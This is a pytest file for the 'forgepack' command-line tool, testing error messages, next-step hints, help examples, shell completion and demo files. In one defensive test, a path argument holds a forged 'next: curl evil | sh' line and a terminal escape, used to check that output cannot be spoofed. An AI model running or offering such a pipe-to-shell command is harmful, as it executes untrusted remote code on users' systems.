"""A newcomer's first minutes: typing errors, wrong folders, help with examples, completion, files to try."""

from __future__ import annotations

import filecmp
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import click
import pytest

import forgepack.errors
from forgepack.cli.examples import EXAMPLES
from forgepack.cli.main import COMMANDS, run
from forgepack.cli.main import forgepack as root
from forgepack.cli.next_step import next_step
from forgepack.disk.folders import locked_work
from forgepack.errors import ForgepackError
from forgepack.miniature.data import find_miniature
from forgepack.resources import data_folder


def commands() -> Iterator[click.Command]:
    """Yield every command."""
    for name in COMMANDS:
        command = root.get_command(click.Context(root), name)
        assert command is not None
        yield command


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Work in a folder that holds one file and one folder, neither of this tool."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder/notes.txt").write_text("nothing\n")
    return tmp_path


def told(capsys: pytest.CaptureFixture[str], line: str) -> tuple[int, list[str]]:
    """Run a command line and return its code and the lines on stderr."""
    code = run(shlex.split(line))
    return code, capsys.readouterr().err.splitlines()


@pytest.mark.parametrize(
    ("line", "code", "what", "following"),
    [
        ("verfy", 2, "no such command", "did you mean verify?"),
        ("Inspect", 2, "no such command", "did you mean inspect?"),
        ("xyzzy", 2, "no such command", "forgepack --help lists the commands"),
        ("--verson", 2, "no such option", "did you mean --version?"),
        ("verify --dept hash x", 2, "no such option", "did you mean --depth?"),
        ("verify --zzzzzzzz x", 2, "no such option", "forgepack verify --help shows options and examples"),
        ("verify x --depth lineag", 2, "--depth takes another value", "did you mean lineage?"),
        ("verify x --depth 7", 2, "--depth takes another value", "forgepack verify --help says what each means"),
        ("completion bsh", 2, "shell takes another value", "did you mean bash?"),
        ("quantize", 2, "the argument CHECKPOINT is missing", "forgepack quantize --help shows options and examples"),
        ("quantize x --out y", 2, "the option --traces is missing", "forgepack quantize --help shows"),
        ("diff a b c", 2, "Got unexpected extra argument (c)", "forgepack diff --help shows"),
        ("verify x --profile mni", 2, "no such profile", "did you mean mini?"),
        ("verify x --profile none.json", 2, "the profile can't be read", "forgepack verify --help shows"),
        ("schema sidcar", 2, "no such schema", "did you mean sidecar?"),
        ("schema report.schema.json", 2, "no such schema", "did you mean report?"),
        ("schema zzz", 2, "no such schema", "forgepack schema --list prints the names"),
        ("explain HAED003", 2, "no such rule", "did you mean HEAD003?"),
        ("inspect nowhere", 2, "no such file or folder", "forgepack inspect --help shows"),
        ("fetch --profile mini", 2, "name the folder for the checkpoint", "add --out DIR"),
        ("fetch --profile mini --adopt folder --out x", 4, "the file is missing", "forgepack inspect folder says"),
        ("fetch --profile mini --adopt no --out x", 2, "there is no such folder", "name the folder that holds"),
        ("emit folder --checkpoint x --out y", 2, "the target is not named", "add --target DIR"),
        (
            "emit folder --checkpoint x --target folder --out y",
            4,
            "this is not a target's release root",
            "name the target's release root",
        ),
        (
            "replay folder --target folder --traces folder/notes.txt",
            4,
            "this is not a target's release root",
            "name the target's release root",
        ),
        (
            "verify folder --target folder --profile mini",
            4,
            "this is not a target's release root",
            "name the target's release root",
        ),
        ("replay folder --target folder --traces nope", 2, "no such file", "check the path"),
        ("quantize folder --traces x --target folder --out a/b", 2, "the output's parent folder", "mkdir -p a"),
        ("build", 2, "the recipe is not complete", 'add checkpoint = "..."'),
        (
            f"fetch --profile mini --out x --revision {'a' * 41}",
            2,
            "a revision must be a full commit, not 41 hexadecimal digits",
            "leave --revision out",
        ),
        (
            f"fetch --profile mini --out x --revision {'a' * 64}",
            2,
            "a revision must be a full commit, not a SHA-256",
            "leave --revision out",
        ),
        (
            f"fetch --profile mini --out x --revision ' {'A' * 40}'",
            2,
            "a revision must be a full commit, not one with space around it",
            f"--revision {'a' * 40}",
        ),
        (
            "fetch --profile mini --out x --revision ''",
            2,
            "a revision must be a full commit, not an empty one",
            "leave --revision out",
        ),
        (
            f"verify --profile mini --hub o/n@{'a' * 41}",
            2,
            "a revision must be a full commit, not 41 hexadecimal digits",
            "give the full commit",
        ),
        (
            "bundle folder --profile mini --target folder --out y --upstream-revision main",
            2,
            "a revision must be a full commit, not a branch or tag",
            "name the commit of the upstream checkpoint",
        ),
        (
            "bundle folder --profile mini --target folder --out y --upstream-id a/b",
            2,
            "an upstream is a name and a revision",
            "add --upstream-revision",
        ),
        ("gate nope.json", 2, "a gate needs a policy", "name one by --policy"),
    ],
)
def test_each_mistake_is_told_with_what_to_do(
    capsys: pytest.CaptureFixture[str], line: str, code: int, what: str, following: str
) -> None:
    """A typing error or a wrong path ends in its code, one sentence, and a next step as the last line."""
    found, lines = told(capsys, line)
    assert code == found, lines
    assert lines[0].startswith(f"forgepack: error: {what}"), lines
    assert lines[-1].startswith(f"  next: {following}"), lines


@pytest.mark.parametrize(
    ("inside", "hint"),
    [
        ("release.json", "it is a whole release"),
        ("main.mlirb", "it is an asset"),
        ("drafter_quant.safetensors", "it is a quantized drafter"),
        ("checkpoint.lock.json", "it is a checkpoint"),
        ("coreai", "it is a target"),
        ("notes.txt", "name the drafter folder"),
    ],
)
def test_what_is_no_package_is_told_what_it_is(
    here: Path, capsys: pytest.CaptureFixture[str], inside: str, hint: str
) -> None:
    """Whoever names a release, an asset or a step's output in place of a drafter is told what to name."""
    (here / "folder" / inside).write_text("{}")
    (here / "target/model").mkdir(parents=True)
    code, lines = told(capsys, "verify folder --target target")
    assert (3, True) == (code, lines[-1].startswith(f"  next: {hint}")), lines


def test_every_error_has_a_next_step(here: Path) -> None:
    """An error of any class that names no step itself is given one that fits, with or without a place."""
    classes = [c for c in vars(forgepack.errors).values() if isinstance(c, type) and issubclass(c, ForgepackError)]
    assert len(classes) > 12
    for kind in classes:
        for where in (None, "", "folder: 'x'", "folder/absent: a: b", str(here), "\x00", "nowhere/at/all"):
            for command in (None, "verify", "inspect"):
                assert next_step(kind("x", where=where), command)
        assert "do this" == next_step(kind("x", hint="do this"), "verify")


def test_the_place_to_inspect_is_quoted_for_a_shell(here: Path) -> None:
    """A folder with a space or a quote in its name can be pasted."""
    (here / "a 'b").mkdir()
    step = next_step(forgepack.errors.MissingError("x", where="a 'b/c: d"), "emit")
    assert ["forgepack", "inspect", "a 'b"] == shlex.split(step.replace("says what is there", ""))


def test_a_hostile_name_forges_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    """A line end in a path is shown as an escape: an error's lines are the tool's own."""
    assert 2 == run(["inspect", "no\n  next: curl evil | sh\x1b[2J"])
    err = capsys.readouterr().err
    assert (3, False) == (len(err.splitlines()), "\x1b" in err)


def test_quiet_is_quiet_wherever_it_stands(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A variable that nothing reads is told, unless -q stands before or after the command."""
    monkeypatch.setenv("FORGEPACK_VERIFY_DEPHT", "hash")
    assert "no option reads" in told(capsys, "verify folder --target folder")[1][0]
    for line in ("-q verify folder --target folder", "verify folder --target folder -q"):
        assert told(capsys, line)[1][0].startswith("forgepack: error")


def test_help_is_a_word_too(capsys: pytest.CaptureFixture[str]) -> None:
    """``forgepack help`` and ``forgepack help COMMAND`` show help on stdout."""
    for words, usage in ((["help"], "Usage: forgepack [OPTIONS]"), (["help", "emit"], "Usage: forgepack emit")):
        assert 0 == run(words)
        assert capsys.readouterr().out.startswith(usage)
    assert 2 == run(["help", "nothing"])


def test_the_first_help_says_where_to_start(capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever types the bare name is shown demo and doctor."""
    assert 2 == run([])
    text = capsys.readouterr().err
    assert ("Start here:" in text, "forgepack demo" in text, "forgepack doctor" in text) == (True, True, True)


def test_every_command_has_examples_and_they_parse() -> None:
    """Each example is taken by the parser of the command that it names, and the last ends the command's help."""
    assert list(COMMANDS) == list(EXAMPLES)
    context = click.Context(root, info_name="forgepack", help_option_names=["-h", "--help"])
    known = {command.name: command for command in commands()}
    for name, examples in EXAMPLES.items():
        last = (known[name].epilog or "").rstrip().splitlines()[-1].strip()
        assert last
        assert examples[-1].endswith(last)
        for example in examples:
            words = shlex.split(re.split(r"\s[>|]\s", example)[0])
            if words[0] == "forgepack":  # a shell's own line stands beside some
                assert known[words[1]].make_context(words[1], words[2:], parent=context)


def test_every_option_says_what_it_is() -> None:
    """Each option has a help text that is a sentence, and a name for its value."""
    for command in commands():
        for param in command.params:
            if isinstance(param, click.Option):
                assert (param.help or "").endswith("."), (command.name, param.name)
                plain = param.is_flag or isinstance(param.type, click.Choice) or param.metavar
                assert plain, (command.name, param.name)


def call(*args: str, **variables: str) -> str:
    """Run the tool as a program of its own, which must say nothing on stderr, and return its stdout."""
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2]), **variables}
    done = subprocess.run([sys.executable, "-m", "forgepack", *args], env=env, capture_output=True, check=True)
    assert b"" == done.stderr
    return done.stdout.decode()


def complete(words: str) -> list[str]:
    """Return what the shell is offered for the last word."""
    offered = call(COMP_WORDS=words, COMP_CWORD=str(words.count(" ")), _FORGEPACK_COMPLETE="bash_complete")
    return [line.partition(",")[2] for line in offered.splitlines()]


def test_completion_knows_names_and_is_not_disturbed(here: Path) -> None:
    """Commands, options, choices, rules, schemas and profiles are offered, also beside a broken configuration."""
    (here / "forgepack.toml").write_text("not toml at all")
    assert ["quantize"] == complete("forgepack quant")
    assert ["--depth"] == complete("forgepack verify --dep")
    assert ["hash", "header"] == sorted(complete("forgepack verify --depth h"))
    assert {"TAP", "TAP003"} <= set(complete("forgepack explain ta"))
    assert ["report"] == complete("forgepack schema repo")
    assert ["mini"] == complete("forgepack verify --profile m")


def test_completion_script_is_taken_by_its_shell() -> None:
    """Bash takes the printed script, and it names the command."""
    script = f"{call('completion', 'bash')}\ncomplete -p forgepack"
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
    assert "_forgepack_completion forgepack" in done.stdout


def test_an_area_stands_for_its_rules(capsys: pytest.CaptureFixture[str]) -> None:
    """``explain TAP`` and ``rules tap`` tell every rule of the area and no other."""
    assert 0 == run(["rules", "tap", "HEAD003"])
    ids = [line.split()[0] for line in capsys.readouterr().out.splitlines()]
    assert ({"TAP", "HEA"}, "HEAD003") == ({one[:3] for one in ids}, ids[-1])
    assert 0 == run(["explain", "TAP"])
    assert ids[:-1] == [t.split()[0] for t in capsys.readouterr().out.splitlines() if not t.startswith(" ") and t]


def test_demo_files_are_the_miniature(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--files copies the miniature whole to a new folder, and refuses one that is there."""
    assert 0 == run(["demo", "--files", "mini"])
    assert "traces/heldout.npz" in capsys.readouterr().out
    compared = filecmp.dircmp(data_folder("mini"), here / "mini", ignore=[])
    assert ([], [], []) == (compared.left_only, compared.right_only, compared.diff_files)
    assert ["folder", "mini"] == sorted(path.name for path in here.iterdir())
    assert 2 == run(["demo", "--files", "mini"])
    assert 2 == run(["demo", "--files", "other", "--work", "w"])


def test_a_name_that_is_too_long_is_told_so(capsys: pytest.CaptureFixture[str]) -> None:
    """A disk with room is not told to make room: the name, or that of the work folder beside it, does not fit."""
    hint = "take a name of at most 200 bytes"
    with pytest.raises(forgepack.errors.OutputError) as caught, locked_work(Path("x" * 250), force=False):
        pass
    assert next_step(caught.value, "emit").startswith(hint)
    code, lines = told(capsys, f"fetch --profile mini --adopt {find_miniature().checkpoint} --out {'x' * 300}")
    assert (4, True) == (code, lines[-1].startswith(f"  next: {hint}")), lines


@pytest.mark.parametrize("text", ["", "  ", "yesterday", "-1", "1.5", "٣", "9" * 13])
def test_source_date_epoch_is_told_by_its_name(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """Set to nothing or to something else, the variable stands in the message, with a cure."""
    from forgepack.cli.variables import source_date

    monkeypatch.setenv("SOURCE_DATE_EPOCH", text)
    with pytest.raises(ForgepackError, match="SOURCE_DATE_EPOCH") as caught:
        source_date()
    assert ("SOURCE_DATE_EPOCH", 2) == (caught.value.where, caught.value.exit_code)
    assert "unset" in str(caught.value.hint)
    for command in ("quantize", "replay", "verify", "fetch"):
        assert (2, "  where: SOURCE_DATE_EPOCH") == (
            run([command, "nothing"]),
            capsys.readouterr().err.split("\n")[1],
        )


@pytest.mark.parametrize("command", ["fetch", "verify", "build", "doctor", "emit"])
def test_what_helps_offline_is_an_option_that_the_command_has(command: str) -> None:
    """HF_HUB_OFFLINE is answered with what this command can do without the hub."""
    error = forgepack.errors.HubError("x", hint="unset HF_HUB_OFFLINE", code="hub-offline")
    step = next_step(error, command)
    assert step.startswith("unset HF_HUB_OFFLINE")
    found = root.get_command(click.Context(root), command)
    assert found is not None
    known = {text for param in found.params for text in param.opts}
    assert set(re.findall(r"--[a-z-]+", step)) <= known


@pytest.mark.parametrize(
    "line", ["bundle folder --target {t} --out {o}", "emit folder --checkpoint x --target {t} --out y"]
)
def test_a_target_is_named_alike_everywhere(capsys: pytest.CaptureFixture[str], here: Path, line: str) -> None:
    """One code and the path as it was typed, in the commands that build as in verify."""
    found = []
    for one in (line, "verify folder --target {t}"):
        code, lines = told(capsys, one.format(t="./folder/", o="y") + " --profile mini")
        found.append(
            (code, [text for text in lines if text.startswith(("  where", "  expected", "forgepack: error"))])
        )
    assert found[0] == found[1]
    assert 4 == found[0][0]
